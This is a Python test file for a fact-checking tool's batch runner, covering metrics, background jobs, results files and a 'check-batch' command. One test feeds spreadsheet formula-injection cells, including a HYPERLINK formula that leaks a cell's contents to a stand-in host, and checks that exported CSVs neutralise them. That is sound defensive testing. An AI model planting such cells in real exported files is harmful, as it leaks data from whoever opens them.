"""Batch checks (fever_core/evaluation/runner.py, metrics.py, output.py): claims labelled or not, progress, a background job,
metrics only where gold data exists, the results files and ``check-batch``."""

import csv
import io
import json

import pytest

from fever_core.cli import main
from fever_core.common.claim_lists import read_claim_list
from fever_core.common.formats import Claim, load_claims
from fever_core.common.types import NEI, REFUTES, SUPPORTS
from fever_core.evaluation import (
    RESULT_COLUMNS,
    BatchJob,
    GoldData,
    ResultsFile,
    evaluate,
    predictions_jsonl,
    results_csv,
    run_batch,
)
from fever_core.evaluation.metrics import NEEDS_EVIDENCE, NEEDS_LABELS
from tests.conftest import CLAIMS

SPEECH = "Fox 2000 Pictures released the film Soul Food.\nJaws is a film by Steven Spielberg.\n🙂🙂🙂\n"


def test_an_unlabelled_batch_checks_every_claim_with_progress_and_has_no_metrics(checker):
    ticks = []
    report = run_batch(checker, read_claim_list(SPEECH), on_row=lambda row, done, total: ticks.append((done, total)))
    assert ticks == [(1, 3), (2, 3), (3, 3)]
    first, _second, emoji = report.rows
    assert first.verdict in (SUPPORTS, REFUTES, NEI) and 0 <= first.confidence <= 1
    assert first.result.claim == "Fox 2000 Pictures released the film Soul Food."
    assert emoji.result is None and "no words or numbers" in emoji.error
    assert emoji.fever_prediction() == {"id": 3, "predicted_label": NEI, "predicted_evidence": [], "error": emoji.error}
    assert report.metrics() == {"label_accuracy": None, "fever_score": None}
    assert report.claims_per_s > 0 and not report.stopped


def test_a_labelled_batch_without_evidence_has_label_accuracy_but_no_fever_score(checker):
    claims = read_claim_list(
        "claim,label\nFox 2000 Pictures released the film Soul Food.,SUPPORTS\n"
        "Jaws is a film by Steven Spielberg.,REFUTES\nEdinburgh has a famous castle.,\n",
        "c.csv",
    )
    report = run_batch(checker, claims)
    labelled = [row for row in report.rows if row.claim.label]
    accuracy = sum(row.verdict == row.claim.label for row in labelled) / len(labelled)
    assert report.metrics() == {"label_accuracy": accuracy, "fever_score": None}


def test_a_batch_of_fever_claims_scores_as_evaluate_does(checker, claims_file):
    claims = load_claims(claims_file)
    report = run_batch(checker, claims)
    scores = evaluate(checker, claims, progress=False).scores
    assert report.metrics() == {"label_accuracy": scores.label_accuracy, "fever_score": scores.fever_score}


def claim(label, evidence=()):
    return Claim(1, "c", label, list(evidence))


GOLD_EVIDENCE = [[[1, 1, "Paris", 0]]]


@pytest.mark.parametrize(
    "claims, missing",
    [
        ([claim(None)], {"label_accuracy": NEEDS_LABELS, "fever_score": NEEDS_LABELS, "evidence_recall": NEEDS_LABELS}),
        (
            [claim(SUPPORTS), claim(None)],
            {
                "label_accuracy": "",
                "fever_score": NEEDS_EVIDENCE,
                "evidence_recall": NEEDS_EVIDENCE,
                "doc_recall_at_5": NEEDS_EVIDENCE,
            },
        ),
        (
            [claim(NEI, [[[5, None, None, None]]])],
            {"label_accuracy": "", "fever_score": "", "evidence_recall": NEEDS_EVIDENCE},
        ),
        ([claim(SUPPORTS, GOLD_EVIDENCE), claim(REFUTES)], {"fever_score": NEEDS_EVIDENCE}),
        (
            [claim(SUPPORTS, GOLD_EVIDENCE), claim(NEI)],
            {
                "label_accuracy": "",
                "fever_score": "",
                "evidence_f1": "",
                "sentence_recall_at_5": "",
                "latency_p50_s": "",
            },
        ),
    ],
)
def test_gold_data_allows_only_the_metrics_it_can_score(claims, missing):
    gold = GoldData.of(claims)
    assert {metric: gold.missing_for(metric) for metric in missing} == missing
    assert gold.allowed(dict.fromkeys(missing, 0.5)) == {m: None if why else 0.5 for m, why in missing.items()}


def test_a_batch_job_runs_in_its_own_thread_and_can_be_stopped(checker):
    claims = read_claim_list(SPEECH * 3)
    seen = []
    job = BatchJob(claims).start(checker, on_row=seen.append)
    job.wait(120)
    assert not job.running and job.error == ""
    assert job.done == job.total == 9 and job.rows() == job.report.rows == seen
    assert job.seconds() == job.report.seconds > 0

    stopped = BatchJob(claims)
    stopped.start(checker, on_row=lambda row: stopped.stop())
    stopped.wait(120)
    assert stopped.report.stopped and stopped.done == 1 and stopped.report.rows == stopped.rows()


def test_a_claim_whose_check_fails_is_a_row_with_its_error_and_the_batch_goes_on(checker, monkeypatch):
    real = checker.check
    monkeypatch.setattr(
        checker,
        "check",
        lambda claim, *args: (
            (_ for _ in ()).throw(RuntimeError("index gone")) if claim.startswith("Jaws") else real(claim, *args)
        ),
    )
    job = BatchJob(read_claim_list(SPEECH)).start(checker)
    job.wait(60)
    assert job.error == "" and not job.report.stopped and job.done == 3
    first, failed, _emoji = job.rows()
    assert first.result is not None and failed.result is None and failed.error == "RuntimeError: index gone"
    assert failed.fever_prediction()["predicted_label"] == NEI


def write_rows(rows, path):
    with ResultsFile(path, [row.claim for row in rows]) as out:
        for row in rows:
            out.write(row)


def test_results_are_written_as_a_csv_table_or_fever_predictions(checker, tmp_path):
    rows = run_batch(checker, read_claim_list(SPEECH)).rows
    write_rows(rows, tmp_path / "out.csv")
    table = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert tuple(table[0]) == RESULT_COLUMNS and [r["claim"] for r in table] == [row.claim.claim for row in rows]
    assert table[2]["verdict"] == "" and "no words" in table[2]["error"]
    assert [r["undecided"] for r in table] == [str(row.result.verdict.undecided).lower() for row in rows[:2]] + [""]
    assert results_csv([]) == ",".join(RESULT_COLUMNS) + "\r\n"
    assert (tmp_path / "out.csv").read_bytes().decode() == results_csv(row.record() for row in rows)
    write_rows(rows, tmp_path / "out.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert (tmp_path / "out.jsonl").read_text() == predictions_jsonl(rows)
    assert [list(line) for line in lines] == [
        ["id", "claim", "predicted_label", "predicted_evidence", "undecided"]
    ] * 2 + [
        ["id", "claim", "predicted_label", "predicted_evidence", "error"]
    ]  # the claim that can't be checked says why
    assert "no words" in lines[2]["error"]
    with pytest.raises(ValueError, match=r"\.csv .* \.jsonl"):
        ResultsFile(tmp_path / "out.txt", [])


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_no_cell_of_a_results_table_starts_a_formula(checker, tmp_path):
    claims = [Claim(cell, cell, None) for cell in HOSTILE_CELLS]
    rows = run_batch(checker, claims).rows
    table = list(csv.reader(io.StringIO(results_csv(row.record() for row in rows))))
    assert [row[:2] for row in table[1:]] == [[f"'{cell}", f"'{cell}"] for cell in HOSTILE_CELLS]
    assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert table[1][4] == "" or float(table[1][4]) >= 0  # numbers stay numbers


def test_a_batch_stopped_midway_keeps_the_rows_it_finished(settings, workspace, tiny_nli_model, tmp_path, monkeypatch):
    from fever_core.pipeline import Checker

    claims = tmp_path / "speech.txt"
    claims.write_text(SPEECH)
    real = Checker.check
    monkeypatch.setattr(
        Checker,
        "check",
        lambda self, claim, *args: (
            (_ for _ in ()).throw(KeyboardInterrupt) if claim.startswith("🙂") else real(self, claim, *args)
        ),
    )  # Ctrl-C at the third claim
    out = tmp_path / "results.jsonl"
    with pytest.raises(KeyboardInterrupt):
        main(
            [
                "--data-dir",
                str(settings.data_dir),
                "check-batch",
                str(claims),
                "--corpus",
                "fixture",
                "--model",
                str(tiny_nli_model),
                "--out",
                str(out),
            ]
        )
    assert [json.loads(line)["claim"] for line in out.read_text().splitlines()] == SPEECH.splitlines()[:2]


def test_a_lone_surrogate_in_a_claim_list_costs_no_result(settings, workspace, tiny_nli_model, tmp_path, capsys):
    claims = tmp_path / "claims.jsonl"
    claims.write_text(
        '{"claim": "Fox 2000 Pictures released the film Soul \\ud800Food."}\n'
        '{"claim": "Jaws is a film by Steven \\udfffSpielberg."}\n'
    )
    out = tmp_path / "results.csv"
    assert (
        main(
            [
                "--data-dir",
                str(settings.data_dir),
                "check-batch",
                str(claims),
                "--corpus",
                "fixture",
                "--model",
                str(tiny_nli_model),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    table = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [row["claim"] for row in table] == [
        "Fox 2000 Pictures released the film Soul Food.",
        "Jaws is a film by Steven Spielberg.",
    ]
    assert all(row["verdict"] for row in table)


def test_check_batch_command_prints_each_verdict_and_only_the_metrics_it_can(
    settings, workspace, tiny_nli_model, tmp_path, capsys
):
    claims = tmp_path / "speech.txt"
    claims.write_text(SPEECH)
    out = tmp_path / "results.csv"
    options = [
        "--data-dir",
        str(settings.data_dir),
        "check-batch",
        "--corpus",
        "fixture",
        "--model",
        str(tiny_nli_model),
    ]
    assert main([*options, str(claims), "--out", str(out)]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert printed[2].startswith("ERROR") and "no words or numbers" in printed[2]
    assert printed[-1].startswith("3 claims, ") and printed[-1].endswith("label accuracy n/a  fever score n/a")
    assert len(list(csv.DictReader(out.open()))) == 3

    fever = tmp_path / "claims.jsonl"
    fever.write_text("".join(json.dumps(c) + "\n" for c in CLAIMS))
    assert main([*options, str(fever)]) == 0
    assert "n/a" not in capsys.readouterr().out.splitlines()[-1]


def test_check_batch_refuses_an_output_it_cant_write_before_checking(tmp_path, capsys):
    claims = tmp_path / "speech.txt"
    claims.write_text(SPEECH)
    assert main(["check-batch", str(claims), "--corpus", "nothing", "--out", str(tmp_path / "out.xlsx")]) == 2
    assert "give a .csv" in capsys.readouterr().err


def test_a_batch_reports_its_latency_over_the_claims_it_checked(checker):
    report = run_batch(checker, read_claim_list(SPEECH))
    seconds = sorted(row.result.timings["total"] for row in report.rows if row.result)
    assert len(seconds) == 2  # the emoji-only claim is refused, and not counted
    assert report.latency_s(0) == seconds[0] and report.latency_s(100) == seconds[1]
    assert seconds[0] <= report.latency_s(50) <= seconds[1]
